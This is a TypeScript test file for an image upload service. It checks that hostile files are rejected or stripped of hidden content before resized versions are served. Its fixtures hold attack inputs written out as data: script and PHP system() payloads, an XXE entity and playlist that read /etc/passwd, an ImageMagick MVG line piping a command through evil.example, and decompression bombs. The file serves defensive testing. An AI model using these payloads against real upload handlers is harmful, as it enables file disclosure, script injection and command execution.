import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { makeSizes, type Size } from './make-sizes.ts';
import { PictureError } from './picture-error.ts';
import { readPictureFile } from './read-picture-file.ts';
import {
  afterStart,
  betweenScans,
  chunk,
  ofManyScans,
  picture,
  png,
  understated,
  webpWith,
} from './testing/hostile-files.ts';
import { pngOf, sample } from './testing/samples.ts';
import { withoutMetadata } from './without-metadata.ts';

const SECRET = 'GEHEIM-0815';
const PAYLOAD = `<script>alert("${SECRET}")</script><?php system("${SECRET}") ?>`;

async function sizesOf(upload: Buffer): Promise<Size[]> {
  const sizes: Size[] = [];
  for await (const size of makeSizes(readPictureFile(upload))) sizes.push(size);
  return sizes;
}

const text = (content: string) => Buffer.from(content.padEnd(64, ' '));
const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share));

const BOMB = deflateSync(Buffer.alloc(40_000_000), { level: 9 });

/** Refused before anything is decoded. */
const refused: readonly (readonly [string, () => Promise<Buffer> | Buffer])[] = [
  ['nothing', () => Buffer.alloc(0)],
  ['one byte', () => Buffer.from([0x89])],
  ['an SVG with a script', () => text(`<svg xmlns="http://www.w3.org/2000/svg">${PAYLOAD}</svg>`)],
  ['an SVG with an entity', () => text('<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>')],
  ['an SVG after a byte order mark', () => text('\ufeff<svg onload="alert(1)"/>')],
  ['an HTML page', () => text(`<!doctype html>${PAYLOAD}`)],
  ['a PDF', () => text('%PDF-1.7 /OpenAction /JavaScript')],
  ['a PostScript program', () => text('%!PS-Adobe-3.0 (/etc/passwd) (r) file')],
  ['a ZIP archive', () => Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(60)])],
  ['a program', () => Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(60)])],
  ['a TIFF', () => Buffer.concat([Buffer.from('II*\0'), Buffer.alloc(60)])],
  ['a BMP', () => Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])],
  ['a HEIC', () => Buffer.concat([Buffer.from('\0\0\0\x18ftypheic'), Buffer.alloc(60)])],
  ['an MVG for ImageMagick', () => text('push graphic-context fill url(https://evil.example/x|id)')],
  ['a playlist for a video decoder', () => text('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd')],
  ['a PNG cut in half', async () => cut(await picture('png'), 0.5)],
  ['a JPEG cut in half', async () => cut(await picture('jpeg', 200, 200), 0.5)],
  ['a WebP cut in half', async () => cut(await picture('webp', 200, 200), 0.5)],
  ['a GIF cut in half', async () => cut(await picture('gif'), 0.5)],
  ['an AVIF cut in half', async () => cut(await picture('avif'), 0.5)],
  ['a PNG without its data', () => Buffer.concat([pngOf(10, 10).subarray(0, 33), chunk('IEND', Buffer.alloc(0))])],
  ['a PNG of 60,000 × 60,000', () => png(60_000, 60_000, BOMB)],
  ['a PNG of 51 megapixels', () => png(8_500, 6_000, BOMB)],
  ['a PNG of a long line', () => png(20_001, 1, deflateSync(Buffer.alloc(60_004)))],
  ['a PNG without a size', () => png(0, 0, deflateSync(Buffer.alloc(4)))],
  ['a PNG whose chunk reaches past its end', () => sample('png').fill(0x7f, 33, 37)],
  [
    'a GIF of 65,535 × 65,535',
    () => {
      const gif = sample('gif');
      gif.writeUInt16LE(65_535, 6);
      gif.writeUInt16LE(65_535, 8);
      return gif;
    },
  ],
];

/** Whole by its structure, and broken inside: refused by the decoder, in its process. */
const broken: readonly (readonly [string, () => Promise<Buffer> | Buffer])[] = [
  ['a PNG with data of another size', () => png(4_000, 4_000, deflateSync(Buffer.alloc(100)))],
  ['a PNG whose data is no zlib stream', () => png(100, 100, Buffer.from(PAYLOAD))],
  ['an AVIF of a megapixel that says it has 600', () => understated(1_250, 800)],
  ['a JPEG of 3,000 scans', ofManyScans],
  [
    'a WebP of zeros',
    () => {
      const webp = Buffer.alloc(200);
      webp.write('RIFF', 0);
      webp.writeUInt32LE(192, 4);
      webp.write('WEBPVP8 ', 8);
      webp.set([0x9d, 1, 0x2a, 64, 0, 64, 0], 23);
      return webp;
    },
  ],
];

/** Pictures that carry something else: it is in none of their sizes, nor in what is served until then. */
const harmless: readonly (readonly [string, () => Promise<Buffer> | Buffer])[] = [
  ['a page behind a PNG', async () => Buffer.concat([await picture('png'), text(PAYLOAD)])],
  ['an archive behind a JPEG', async () => Buffer.concat([await picture('jpeg'), Buffer.from(`PK\x03\x04${PAYLOAD}`)])],
  ['a script behind a GIF', async () => Buffer.concat([await picture('gif'), text(PAYLOAD)])],
  ['a page behind a WebP', async () => Buffer.concat([await picture('webp'), text(PAYLOAD)])],
  ['a comment in a JPEG', async () => afterStart(await picture('jpeg'), 0xfe, Buffer.from(PAYLOAD))],
  [
    'a place and a camera in a JPEG',
    async () => afterStart(await picture('jpeg'), 0xe1, Buffer.from(`Exif\0\0${SECRET}`)),
  ],
  [
    'a caption of a newspaper in a JPEG',
    async () => afterStart(await picture('jpeg'), 0xed, Buffer.from(`Photoshop 3.0\0${SECRET}`)),
  ],
  [
    'texts in a PNG',
    async () => {
      const whole = await picture('png');
      return Buffer.concat([
        whole.subarray(0, 33),
        chunk('tEXt', Buffer.from(`Comment\0${PAYLOAD}`)),
        chunk('eXIf', Buffer.from(SECRET)),
        whole.subarray(33),
      ]);
    },
  ],
  [
    'a colour profile of 400 MB in a PNG',
    async () => {
      const whole = await picture('png');
      const profile = Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(400_000_000))]);
      return Buffer.concat([whole.subarray(0, 33), chunk('iCCP', profile), whole.subarray(33)]);
    },
  ],
  ['a place between the scans of a JPEG', () => betweenScans(Buffer.from(`Exif\0\0${SECRET}`))],
  [
    'an index of more pictures in a JPEG',
    async () => afterStart(await picture('jpeg'), 0xe2, Buffer.from(`MPF\0${SECRET}`)),
  ],
  [
    'a thumbnail in a JPEG',
    async () => {
      const thumbnail = Buffer.from(`JFIF\0\x01\x01\0\0\x01\0\x01\x02\x02${SECRET.padEnd(12)}`, 'latin1');
      return afterStart(await picture('jpeg'), 0xe0, thumbnail);
    },
  ],
  ['an unknown part in a WebP', async () => webpWith('GPSX', Buffer.from(SECRET), await picture('webp'))],
  ['EXIF in a WebP', async () => webpWith('EXIF', Buffer.from(SECRET), await picture('webp'))],
  ['XMP in a WebP', async () => webpWith('XMP ', Buffer.from(PAYLOAD), await picture('webp'))],
  [
    'a place in a real EXIF',
    () =>
      sharp({ create: { width: 64, height: 48, channels: 3, background: '#8a4' } })
        .withExif({ IFD0: { Make: SECRET }, IFD3: { GPSLatitudeRef: 'N' } })
        .jpeg()
        .toBuffer(),
  ],
];

describe('hostile uploads', () => {
  test('are 40 at least', () => {
    expect(refused.length + broken.length + harmless.length).toBeGreaterThanOrEqual(40);
  });

  test.each(refused)('%s is refused before it is decoded', async (_, make) => {
    const upload = await make();
    expect(() => readPictureFile(upload)).toThrow(PictureError);
  });

  test.each(broken)('%s is refused by the decoder', async (_, make) => {
    const file = readPictureFile(await make());
    await expect(async () => {
      for await (const _size of makeSizes(file));
    }).rejects.toThrow('It is broken: it could not be decoded.');
  });

  test.each(harmless)('nothing is left of %s', async (_, make) => {
    const upload = await make();
    const file = readPictureFile(upload);
    const sizes = await sizesOf(upload);
    expect(sizes.map(({ type, width }) => [type, width])).toEqual([
      ['image/avif', 64],
      ['image/webp', 64],
    ]);
    for (const { bytes } of sizes) {
      expect(bytes.includes(SECRET)).toBe(false);
      expect((await sharp(bytes).metadata()).exif).toBeUndefined();
    }
    const shown = withoutMetadata(file);
    if (file.type === 'image/gif') return expect(shown).toBeNull();
    expect(shown?.includes(SECRET)).toBe(false);
    return expect(await sharp(shown ?? undefined).stats()).toMatchObject({ isOpaque: true });
  });
});

test('sizes are upright, no wider than the upload, and of the widths of pages', async () => {
  const upload = await sharp({ create: { width: 900, height: 1_400, channels: 3, background: '#248' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .toBuffer();
  const sizes = await sizesOf(upload);
  expect(sizes.filter(({ type }) => type === 'image/webp').map(({ width, height }) => [width, height])).toEqual([
    [320, 206],
    [480, 309],
    [640, 411],
    [960, 617],
    [1280, 823],
    [1400, 900],
  ]);
});

test('a picture that is too high for WebP gets sizes that are not', async () => {
  const sizes = await sizesOf(await picture('png', 100, 20_000));
  expect(sizes.map(({ width }) => width)).toEqual([82, 82]);
  expect(Math.max(...sizes.map(({ height }) => height))).toBeLessThanOrEqual(16_383);
});

test('a transparent picture stays transparent', async () => {
  const upload = await sharp({
    create: { width: 40, height: 40, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } },
  })
    .png()
    .toBuffer();
  for (const { bytes } of await sizesOf(upload)) expect((await sharp(bytes).stats()).isOpaque).toBe(false);
});

test('a picture of more than 1920 pixels in width has no wider size', async () => {
  const sizes = await sizesOf(await picture('jpeg', 3_000, 300));
  expect(Math.max(...sizes.map(({ width }) => width))).toBe(1_920);
});
